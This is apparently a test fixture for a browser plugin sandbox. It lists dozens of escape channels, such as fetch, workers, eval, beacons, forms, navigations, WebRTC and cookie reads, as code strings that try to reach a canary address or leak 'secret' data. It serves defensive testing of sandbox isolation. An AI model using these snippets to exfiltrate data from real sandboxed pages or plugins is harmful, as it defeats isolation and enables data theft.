/** Every known way out of a sandbox, as code to be run inside one. `docs/internals/channels.md` lists them. */

/** Channels of both realms. Each is a function body with `to`, the canary's address, in reach. */
export const shared: Record<string, string> = {
  fetch: "return fetch(to + '/fetch', { mode: 'no-cors' })",
  'fetch with keepalive':
    "return fetch(to + '/keepalive', { method: 'POST', body: 'secret', keepalive: true, mode: 'no-cors' })",
  'fetch of the host': "return fetch('/api/v1/plugins').then((r) => { leaked.push('host ' + r.status) })",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', to + '/xhr'); x.send()",
  WebSocket: "new WebSocket(to.replace('http', 'ws') + '/ws')",
  EventSource: "new EventSource(to + '/sse')",
  WebTransport: "new WebTransport(to.replace('http:', 'https:') + '/wt')",
  'import()': "return import(to + '/import.js')",
  'import() of a data address': "return import('data:text/javascript,fetch(\"' + to + '/data\")')",
  'import() of a blob':
    "return import(URL.createObjectURL(new Blob(['fetch(\"' + to + '/blob\")'], { type: 'text/javascript' })))",
  'worker of the canary': "new Worker(to + '/worker.js')",
  'module worker of the canary': "new Worker(to + '/worker.js', { type: 'module' })",
  'worker of a blob':
    'new Worker(URL.createObjectURL(new Blob([\'fetch("\' + to + \'/blob-worker", { mode: "no-cors" })\'])))',
  'module worker of a blob that imports the canary':
    "new Worker(URL.createObjectURL(new Blob(['import \"' + to + '/blob-import.js\"'], { type: 'text/javascript' })), { type: 'module' })",
  'blob worker that loads the canary by importScripts':
    "new Worker(URL.createObjectURL(new Blob(['importScripts(\"' + to + '/import-scripts.js\")'])))",
  // Its own files may be imported; a worker started from one would come without the policy of its document.
  'worker of a file of its own': "new Worker(new URL('worker.js', import.meta.url))",
  'module worker of a file of its own':
    "new Worker(new URL('worker.js', import.meta.url), { type: 'module' })",
  'a file of its own that imports the canary': "return import(new URL('static.js', import.meta.url).href)",
  'shared worker': "new SharedWorker(to + '/shared.js')",
  eval: "return (0, eval)('fetch(\"' + to + '/eval\")')",
  'new Function': "return new Function('return fetch(\"' + to + '/function\")')()",
  'a timer with text': "setTimeout('fetch(\"' + to + '/timer\")')",
  'Cache API': "return caches.open('x').then((c) => c.add(to + '/cache'))",
  IndexedDB: "indexedDB.open('x').onsuccess = () => { leaked.push('indexedDB') }",
  'file system': "return navigator.storage.getDirectory().then(() => { leaked.push('opfs') })",
  'background fetch': "return navigator.serviceWorker.register('/sw.js').then(() => { leaked.push('sw') })",
  'font face': "const f = new FontFace('x', 'url(' + to + '/font)'); return f.load()",
}

/** Channels that only documents have. */
export const frameOnly: Record<string, string> = {
  sendBeacon: "if (!navigator.sendBeacon(to + '/beacon', 'secret')) throw 0",
  image: "new Image().src = to + '/image'",
  'style background': "document.body.style.background = 'url(' + to + '/background)'",
  'style element': "add('style').textContent = '@import \"' + to + '/style.css\"'",
  'adopted sheet':
    "const s = new CSSStyleSheet(); s.replaceSync('body { list-style-image: url(' + to + '/adopted) } @font-face { font-family: y; src: url(' + to + '/face) } body { font-family: y }'); document.adoptedStyleSheets.push(s)",
  'stylesheet link': "add('link', { rel: 'stylesheet', href: to + '/link.css' })",
  'prefetch, preload, preconnect, dns-prefetch, icon':
    "for (const rel of ['prefetch', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch', 'icon', 'manifest', 'prerender']) add('link', { rel, href: to + '/' + rel, as: 'image' })",
  script: "add('script', { src: to + '/script.js' })",
  'inline script': "add('script').textContent = 'fetch(\"' + to + '/inline\")'",
  'inline handler': "add('div', { onclick: 'fetch(\"' + to + '/handler\")' }).click()",
  'speculation rules':
    "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: [to + '/speculation'] }] }); document.body.append(s)",
  'nested frame': "add('iframe', { src: to + '/frame' })",
  'nested srcdoc':
    "add('iframe', { srcdoc: '<img src=\"' + to + '/srcdoc\"><script>fetch(\"' + to + '/srcdoc-fetch\")</scr' + 'ipt>' })",
  'object and embed': "add('object', { data: to + '/object' }); add('embed', { src: to + '/embed' })",
  media:
    "add('video', { src: to + '/video', autoplay: '' }); add('audio', { src: to + '/audio', autoplay: '' })",
  'svg use and image':
    "document.body.insertAdjacentHTML('beforeend', '<svg><use href=\"' + to + '/use#x\"/><image href=\"' + to + '/svg\"/></svg>')",
  form: "const f = add('form', { action: to + '/form', method: 'post' }); f.submit()",
  'form in a new window': "const f = add('form', { action: to + '/form2', target: '_blank' }); f.submit()",
  popup: "window.open(to + '/popup')",
  'link in a new window': "add('a', { href: to + '/anchor', target: '_blank', rel: 'opener' }).click()",
  'hyperlink ping': "add('a', { href: '#', ping: to + '/ping' }).click()",
  'top navigation': "top.location = to + '/top'",
  'parent navigation': "parent.location.href = to + '/parent'",
  'link to the top': "add('a', { href: to + '/top-link', target: '_top' }).click()",
  cookie: "document.cookie = 'x=1'; leaked.push('cookie ' + document.cookie)",
  storage: "localStorage.setItem('x', '1'); leaked.push('localStorage')",
  'the host document': "leaked.push('parent ' + parent.document.title)",
  'meta policy with a report address':
    "add('meta', { 'http-equiv': 'Content-Security-Policy', content: \"img-src 'none'; report-uri \" + to + '/report' }); new Image().src = to + '/reported'",
  WebRTC:
    "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udpPort }, { urls: 'turn:127.0.0.1:' + udpPort, username: 'x', credential: 'y' }] }); c.createDataChannel('x'); return c.createOffer().then((o) => c.setLocalDescription(o))",
  'WebRTC of a srcdoc child':
    "const f = add('iframe', { srcdoc: '' }); const C = f.contentWindow.RTCPeerConnection; const c = new C({ iceServers: [{ urls: 'stun:127.0.0.1:' + udpPort }] }); c.createDataChannel('x'); return c.createOffer().then((o) => c.setLocalDescription(o))",
}

/** Ways for a frame to leave. Firefox refuses most of them and lets the frame be; Chromium puts an error page there. */
export const departures: readonly (readonly [name: string, body: string, firefox: 'refuses' | 'leaves'])[] = [
  ['location', "location = to + '/location?secret'", 'refuses'],
  ['location.replace', "location.replace(to + '/replace?secret')", 'refuses'],
  [
    'meta refresh',
    "add('meta', { 'http-equiv': 'refresh', content: '0; url=' + to + '/refresh?secret' })",
    'refuses',
  ],
  ['a link', "add('a', { href: to + '/link?secret' }).click()", 'refuses'],
  ['a download', "add('a', { href: to + '/download?secret', download: 'x' }).click()", 'refuses'],
  ['another sandbox', "location = location.href.replaceAll('attacker', 'victim')", 'leaves'],
  ['a data address', "location = 'data:text/html,<script>1</scr' + 'ipt>'", 'refuses'],
  ['a blob', "location = URL.createObjectURL(new Blob(['x'], { type: 'text/html' }))", 'refuses'],
  ['a blank page', "location = 'about:blank'", 'leaves'],
  ['a reload', 'location.reload()', 'leaves'],
]
